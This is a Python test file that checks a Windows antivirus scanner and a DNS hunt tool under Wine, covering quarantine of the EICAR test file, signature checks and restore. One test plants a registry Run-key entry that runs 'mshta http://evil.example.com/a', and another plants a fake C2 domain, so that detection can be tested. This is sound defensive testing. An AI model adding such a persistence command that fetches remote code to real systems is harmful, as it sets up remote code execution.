"""The scanner's Windows code under Wine, with the Python and the libraries of the Windows bundle. What Wine cannot prove: docs/windows-checklist.md.

Skipped where there is no Wine, but not in the project's check. `LAMSACH_WINE_BUNDLE` names an unpacked bundle to be used instead of a new one.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest

from .planted import EICAR
from .test_bundle import load_builder

HERE = Path(__file__).parent
pytestmark = pytest.mark.wine  # `make test-windows`: builds the bundle, for which it needs the internet
STARTS_WITHIN_S = 180


def made_once(place: Path) -> Path:
    """An unpacked bundle that all test processes share: the first one makes it."""
    try:
        place.mkdir()
    except FileExistsError:
        for _ in range(STARTS_WITHIN_S):
            if (place / "whole").exists():
                break
            time.sleep(1)
        return place
    builder = load_builder()
    for name, data in builder.windows_files(builder.arguments([])).items():
        file = place / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(data)
    (place / "whole").touch()
    return place


class Wine:
    """A fresh Windows of its own, and the bundle in it."""

    def __init__(self, prefix: Path, bundle: Path) -> None:
        self.prefix, self.bundle = prefix, bundle
        self.drive = prefix / "drive_c"
        self.variables = {
            **os.environ,
            "WINEPREFIX": str(prefix),
            "WINEDEBUG": "-all",
            "WINEDLLOVERRIDES": "mscoree,mshtml=",
            "LC_ALL": "C.UTF-8",
        }

    def run(self, *words: str) -> subprocess.CompletedProcess[str]:
        """Run a Windows program."""
        return subprocess.run(
            ["wine", *words], env=self.variables, capture_output=True, text=True, timeout=180, check=False
        )

    def scanner(self, *words: str) -> subprocess.CompletedProcess[str]:
        """Run the scanner."""
        return self.run(str(self.bundle / "python/python.exe"), "-X", "utf8", "-m", "lamsach_scanner", *words)

    def check(self, *words: str) -> Any:
        """What some of `wine_checks` saw."""
        ran = self.run(
            str(self.bundle / "python/python.exe"), "-X", "utf8", str(HERE / "wine_checks.py"), *words
        )
        assert ran.returncode == 0, ran.stderr
        return json.loads(ran.stdout)

    def restart(self) -> None:
        """End this Windows; the next program starts it again."""
        subprocess.run(["wineserver", "-k"], env=self.variables, check=False)
        subprocess.run(["wineserver", "-w"], env=self.variables, check=False, timeout=60)
        self.run("wineboot", "-r")


@pytest.fixture(scope="module")
def wine(tmp_path_factory: pytest.TempPathFactory) -> Wine:
    if shutil.which("wine") is None:
        pytest.fail("The check needs Wine: apt-get install --no-install-recommends wine wine64")
    stated = os.environ.get("LAMSACH_WINE_BUNDLE")
    base = tmp_path_factory.getbasetemp()
    shared = base.parent if os.environ.get("PYTEST_XDIST_WORKER") else base
    bundle = Path(stated) if stated else made_once(shared / "windows-bundle")
    return Wine(tmp_path_factory.mktemp("wine"), bundle)


@pytest.fixture(scope="module")
def seen(wine: Wine, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """What most checks saw, in one go, since Wine takes seconds to start."""
    folder = tmp_path_factory.mktemp("signed")
    python = wine.bundle / "python/python.exe"
    changed = bytearray(python.read_bytes())
    changed[len(changed) // 3] ^= 1
    (folder / "changed.exe").write_bytes(changed)
    (folder / "plain.txt").write_bytes(b"text")
    files = [
        f"Z:{path}".replace("/", "\\") for path in (python, folder / "changed.exe", folder / "plain.txt")
    ]
    own = r"C:\windows\system32\notepad.exe"  # Wine's own, which nobody signed
    names = ("file", "running", "leftover", "locked", "settings", "signatures")
    return wine.check(*names, "--", *files, own, r"C:\not there.exe")


def test_a_file_there_and_back(seen: Any) -> None:
    assert seen["file"].pop("refused") == []
    assert all(seen["file"].values()), seen["file"]


def test_a_running_program(seen: Any) -> None:
    assert all(seen["running"].values()), seen["running"]
    assert seen["leftover"] == {"before": True, "after": False, "marked": False}


def test_a_locked_file(seen: Any) -> None:
    assert seen["locked"] == {
        "waiting": True,
        "there": True,
        "touched": [],
        "pending": True,
        "cancelled": True,
        "items": [],
    }


def test_resolver_and_proxy(seen: Any) -> None:
    assert seen["settings"] == {"ProxyServer": True, "WinHttpSettings": True, "NameServer": True}


def test_signatures(seen: Any) -> None:
    changed = seen["signatures"].pop("changed.exe")
    assert changed[0] == "distrusted"
    assert seen["signatures"] == {
        "python.exe": ["trusted", "Python Software Foundation"],
        "plain.txt": ["unsigned", ""],
        "notepad.exe": ["unsigned", ""],
        "not there.exe": ["unknown", ""],
    }


def test_a_locked_file_after_the_next_start(wine: Wine) -> None:
    assert wine.check("before_start")["before_start"] == {"waiting": True}
    wine.restart()
    after = wine.check("after_start")["after_start"]
    assert after.pop("aside") is False
    assert all(after.values()), after


def test_clean_and_undo(wine: Wine) -> None:
    folder = wine.drive / "Đơn vị"
    folder.mkdir(parents=True)
    file = folder / "bad.com"
    file.write_bytes(EICAR)
    os.utime(file, (10**9, 10**9))
    words = (r"C:\Đơn vị", "--jobs", "2", "--language", "en", "--quarantine", "--yes")
    ran = wine.scanner("scan", *words)
    assert "second look does not find it" in ran.stdout, ran.stderr
    assert not file.exists()
    assert wine.scanner("quarantine", "restore", "--all", "--yes").returncode == 0
    assert file.read_bytes() == EICAR
    assert file.stat().st_mtime == 10**9


def test_a_run_key(wine: Wine) -> None:
    key = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
    command = "mshta http://evil.example.com/a"
    assert wine.run("reg", "add", key, "/v", "Bad", "/d", command, "/f").returncode == 0
    (wine.drive / "list.txt").write_text("evil.example.com\n")
    words = ("--quick", "--no-memory", "--time-limit", "60", "--jobs", "0", "-i", r"C:\list.txt")
    elsewhere = ("--exclude", r"C:\\windows", "--exclude", r"C:\\users", "--exclude", r"C:\\ProgramData")
    ran = wine.scanner("scan", *words, *elsewhere, "--language", "en", "--quarantine", "--yes")
    assert "take the registry value away - done" in ran.stdout, ran.stdout + ran.stderr
    # What Wine's tools do not say is told, and is not clean.
    assert "WMI root/subscription" in ran.stdout
    assert wine.run("reg", "query", key, "/v", "Bad").returncode != 0
    assert wine.scanner("quarantine", "restore", "--all", "--yes").returncode == 0
    assert command in wine.run("reg", "query", key, "/v", "Bad").stdout


HUNT = os.environ.get("LAMSACH_WINE_HUNT_BUNDLE", "")


@pytest.mark.skipif(
    not HUNT, reason="LAMSACH_WINE_HUNT_BUNDLE names no unpacked bundle of the hunt (with numpy 2.1.3)"
)
def test_the_hunt_bundle(wine: Wine) -> None:
    lines = [
        f"Sep 26 10:00:{at:02} fw named[1]: client 192.0.2.7#53: query: {name} IN A"
        for at, name in enumerate(["unit.example", "bot-c2.xyz"] * 9)
    ]
    (wine.drive / "dns.log").write_text("\n".join(lines) + "\n")
    (wine.drive / "list.txt").write_text("bot-c2.xyz\n")
    # Wine's own C++ runtime hides that the bundle lacks one: only what it carries counts.
    wine.variables["WINEDLLOVERRIDES"] = "mscoree,mshtml=;msvcp140=n;vcruntime140=n;vcruntime140_1=n"
    words = (
        "-X",
        "utf8",
        "-m",
        "lamsach_hunt",
        "hunt",
        r"C:\dns.log",
        "-i",
        r"C:\list.txt",
        "-o",
        r"C:\report.html",
    )
    ran = wine.run(f"{HUNT}/python/python.exe", *words, "--language", "en")
    assert ran.returncode == 0, ran.stderr
    assert b"192.0.2.7" in (wine.drive / "report.html").read_bytes()
